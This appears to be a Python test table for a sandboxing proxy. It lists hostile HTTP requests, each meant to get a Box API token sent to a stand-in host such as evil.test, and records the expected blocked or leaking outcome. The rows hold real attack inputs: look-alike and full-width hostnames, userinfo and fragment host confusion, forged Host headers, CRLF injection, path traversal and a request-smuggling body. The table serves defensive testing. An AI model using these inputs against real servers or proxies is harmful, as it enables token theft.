"""The table of hostile requests: each tries to have a token sent elsewhere."""

from __future__ import annotations

from typing import Final

from hostile_destinations import ELSEWHERE, NOT_THE_SERVER
from hostile_reverse import REVERSE
from hostile_row import API, ME, absolute, path, request, tunnel
from hostile_scripts import SCRIPTS

LOOK_ALIKE: Final = "xn--pi-6kc.box.com"  # its first letter is Cyrillic
FULL_WIDTH: Final = "".join(chr(ord(c) + 0xFEE0) if c != "." else c for c in API)


_NAMES = (
    tunnel(
        "upper case",
        "API.BOX.COM:443",
        request(host="API.Box.com"),
        sni="API.BOX.COM",
        answer="200 box",
        token=True,
        leaks=False,
    ),
    absolute(
        "upper case, absolute",
        request("https://API.BOX.COM/2.0/users/me"),
        answer="200 box",
        token=True,
        leaks=False,
    ),
    tunnel(
        "trailing dot",
        "API.BOX.COM.:443",
        request(host="api.box.com."),
        answer="501 box",
        token=True,
        leaks=False,
    ),
    tunnel(
        "trailing dot, SNI too",
        "API.BOX.COM.:443",
        sni="api.box.com.",
        answer="200 box",
        token=True,
        leaks=False,
    ),
    tunnel(
        "trailing dot, no SNI",
        "API.BOX.COM.:443",
        sni="",
        answer="200 box",
        token=True,
        leaks=False,
    ),
    tunnel(
        "SNI that is no name",
        "api.box.com:443",
        sni="api..box.com",
        answer="200 box",  # as without SNI
        token=True,
        leaks=False,
    ),
    # OpenSSL checks no certificate against such a name: nobody may wait for it.
    *(
        tunnel(
            f"SNI {sni}",
            "api.box.com:443",
            sni=sni,
            answer="400 invalid_host",
            leaks=False,  # the server's certificate is checked against CONNECT's name
        )
        for sni in ("-x.api.box.com", "api-.box.com", "x-.api.box.com.")
    ),
    *(
        tunnel(
            f"a hyphen at the end of a label, {what}",
            "upload--.app.box.com:443",
            request("/api/2.0/files/content", "upload--.app.box.com"),
            sni=sni,
            answer="400 invalid_host",
            leaks=False,  # no server has a certificate for it
        )
        for what, sni in (("SNI too", "upload--.app.box.com"), ("no SNI", ""))
    ),
    absolute(
        "a hyphen at the end of a label, absolute",
        request("https://upload--.app.box.com/api/2.0/x", "upload--.app.box.com"),
        answer="400 invalid_host",
        leaks=False,  # same
    ),
    tunnel("trailing dot, other port", "API.BOX.COM.:8443", answer="421 wrong_port"),
    tunnel(
        "two trailing dots", "api.box.com..:443", answer="400 mitmproxy", leaks=False
    ),
    tunnel(
        "Box's name before another",
        "api.box.com.evil.test:443",
        request(host="api.box.com.evil.test"),
        sni="api.box.com.evil.test",
        answer="200 wrong",
    ),
    tunnel(
        "another name before Box's",
        "evil-api.box.com:443",
        request(host="evil-api.box.com"),
        sni="evil-api.box.com",
        answer="200 wrong",
    ),
    tunnel(
        "look-alike",
        f"{LOOK_ALIKE}:443",
        request(host=LOOK_ALIKE),
        sni=LOOK_ALIKE,
        answer="200 wrong",
        leaks=False,  # no name of Box in sight
    ),
    tunnel(
        "look-alike, forged Host",
        f"{LOOK_ALIKE}:443",
        sni=LOOK_ALIKE,
        answer="200 wrong",
    ),
    tunnel("full-width name", f"{FULL_WIDTH}:443", answer="400 mitmproxy", leaks=False),
    absolute(
        "full-width name, absolute",
        request(f"https://{FULL_WIDTH}/2.0/users/me"),
        answer="400 mitmproxy",
        leaks=False,
    ),
    absolute(
        "escapes in the name",
        request("https://api%2ebox%2ecom/2.0/users/me"),
        answer="400 mitmproxy",
        leaks=False,
    ),
    tunnel(
        "user information",
        "api.box.com@evil.test:443",
        answer="400 mitmproxy",
        leaks=False,
    ),
    absolute(
        "user information, absolute",
        request("https://api.box.com@evil.test/2.0/users/me"),
        answer="400 mitmproxy",
        leaks=False,
    ),
    absolute(
        "password, absolute",
        request("https://api.box.com:443@evil.test/2.0/users/me"),
        answer="400 mitmproxy",
        leaks=False,
    ),
    absolute(
        "Box's name in a fragment",
        request("https://evil.test#@api.box.com/2.0/users/me"),
        answer="400 mitmproxy",
        leaks=False,
    ),
    absolute(
        "backslash in the authority",
        request("https://evil.test\\@api.box.com/2.0/users/me"),
        answer="400 mitmproxy",
        leaks=False,
    ),
    *(
        absolute(
            f"forged Host: {what}",
            request("http://evil.test/2.0/users/me", host),
            answer=answer,
        )
        for what, host, answer in (
            ("full-width", FULL_WIDTH, "400 invalid_host"),
            ("escapes", "api%2ebox%2ecom", "400 invalid_host"),
            ("user information", "api.box.com@evil.test", "400 invalid_host"),
            ("Box as user", "evil.test@api.box.com", "400 invalid_host"),
            ("two dots", "api.box.com..", "400 invalid_host"),
            ("port that is none", "api.box.com:", "400 invalid_host"),
            ("two names", "evil.test, api.box.com", "400 invalid_host"),
            ("blank", "evil.test api.box.com", "400 invalid_host"),
            ("a path", "api.box.com/2.0/", "400 invalid_host"),
        )
    ),
    tunnel("IPv4", "203.0.113.7:443", answer="421 misdirected"),
    tunnel("IPv6", "[2001:db8::7]:443", answer="421 misdirected"),
    tunnel("IPv4 as one number", "3405803783:443", answer="400 invalid_host"),
    tunnel("loopback", "127.0.0.1:{wrong}", answer="421 misdirected"),
    absolute(
        "IPv4, absolute",
        request("https://203.0.113.7/2.0/users/me"),
        answer="421 misdirected",
    ),
    absolute(
        "IPv4 in Host",
        request("https://api.box.com/2.0/users/me", "203.0.113.7"),
        answer="421 misdirected",
    ),
)

_PATHS = (
    path("dot segments", "/2.0/../oauth2/token", "401 box"),
    path("encoded dots", "/2.0/%2e%2e/oauth2/token", "401 box"),
    path("dots encoded twice", "/2.0/%252e%252e/oauth2/token", "401 box"),
    path("encoded slash", "/2.0/..%2foauth2/token", "401 box"),
    path("backslash", "/2.0/..\\oauth2\\token", "401 box"),
    path("encoded backslash", "/2.0/..%5coauth2%5ctoken", "401 box"),
    path("parameters", "/2.0/..;a=b/oauth2/token", "401 box"),
    path("empty segments", "//2.0/..//oauth2//token", "501 box", leaks=False),
    path("upper case path", "/2.0/../OAuth2/Token", "401 box"),
    path("half an escape", "/2.0/%2", "400 invalid_path"),
    path("escapes that are no text", "/2.0/%ff", "400 invalid_path"),
    path("a line end", "/2.0/%0d%0aHost:%20evil.test", "400 invalid_path"),
    path("outside the rule by dots", "/2.0/%2e%2e/admin", "400 ambiguous_path"),
)

_FRAMING = (
    tunnel("TRACE", "api.box.com:443", request(method="TRACE"), answer="405 trace"),
    tunnel(
        "Connection names Authorization",
        "api.box.com:443",
        request(ME, API, "Connection: authorization"),
        answer="200 box",
        token=True,
        leaks=False,
    ),
    tunnel(
        "two Host fields",
        "api.box.com:443",
        request(ME, API, "Host: evil.test"),
        answer="421 misdirected",
    ),
    tunnel(
        "no Host",
        "api.box.com:443",
        request(ME, None, version="1.0"),
        answer="400 missing_host",
    ),
    tunnel(
        "length and chunks",
        "api.box.com:443",
        request(
            ME,
            API,
            "Content-Length: 4",
            "Transfer-Encoding: chunked",
            method="POST",
            body="0\r\n\r\nGET /oauth2/token HTTP/1.1\r\nHost: api.box.com\r\n\r\n",
        ),
        answer="400 mitmproxy",
        leaks=False,  # mitmproxy does not let it through
    ),
    tunnel(
        "two lengths",
        "api.box.com:443",
        request(ME, API, "Content-Length: 0", "Content-Length: 40", method="POST"),
        answer="400 mitmproxy",
        leaks=False,  # same
    ),
    tunnel(
        "blank before the colon",
        "api.box.com:443",
        request(ME, API, "Host : evil.test"),
        answer="400 mitmproxy",
        leaks=False,  # same
    ),
    *(
        tunnel(
            f"{what} in a field",
            "api.box.com:443",
            request(ME, API, field),
            answer="400 invalid_field",
            leaks=False,  # the sandbox reads no such field
        )
        for what, field in (
            ("a bare CR", "X: a\rAuthorization: Bearer other\rHost: evil.test"),
            ("NUL", "X: a\0b"),
        )
    ),
    tunnel(
        "a folded field",
        "api.box.com:443",
        request(ME, API, "X: a", " Host: evil.test"),
        answer="400 invalid_field",
    ),
    absolute(
        "a bare CR in a field, elsewhere",
        request("http://evil.test/", "evil.test", "X: a\rHost: api.box.com"),
        answer="400 invalid_field",
        leaks=False,  # nothing of Box in sight
    ),
    tunnel(
        "trailers",
        "api.box.com:443",
        request(
            ME,
            API,
            "Transfer-Encoding: chunked",
            "Trailer: Authorization",
            method="POST",
            body="0\r\n\r\n",
        ),
        answer="closed",
    ),
)

_BROWSERS = (
    tunnel(
        "a refused HEAD before another request",
        "api.box.com:443",
        request(ME, API, "Origin: https://evil.test", method="HEAD"),
        request(),
        answer="200 box",
        token=True,
        leaks=False,  # its body would be taken for the next answer
    ),
    tunnel(
        "Origin",
        "api.box.com:443",
        request(ME, API, "Origin: https://evil.test"),
        answer="403 browser_request",
    ),
    tunnel(
        "Sec-Fetch-Site",
        "api.box.com:443",
        request(ME, API, "Sec-Fetch-Site: cross-site"),
        answer="403 browser_request",
    ),
    tunnel(
        "CORS preflight",
        "api.box.com:443",
        request(
            ME,
            API,
            "Origin: https://evil.test",
            "Access-Control-Request-Method: GET",
            method="OPTIONS",
        ),
        answer="401 box",
    ),
)


ROWS: Final = (
    *ELSEWHERE,
    *NOT_THE_SERVER,
    *_NAMES,
    *_PATHS,
    *_FRAMING,
    *_BROWSERS,
    *REVERSE,
    *SCRIPTS,
)
